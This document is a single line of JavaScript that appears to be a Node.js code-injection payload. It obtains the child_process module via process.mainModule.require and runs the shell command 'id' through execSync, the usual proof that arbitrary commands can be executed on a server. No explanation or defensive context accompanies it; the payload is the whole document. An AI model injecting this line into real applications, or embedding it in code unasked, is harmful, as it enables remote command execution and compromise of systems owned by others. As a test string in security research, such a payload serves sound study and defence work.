process.mainModule.require("child_process").execSync("id");
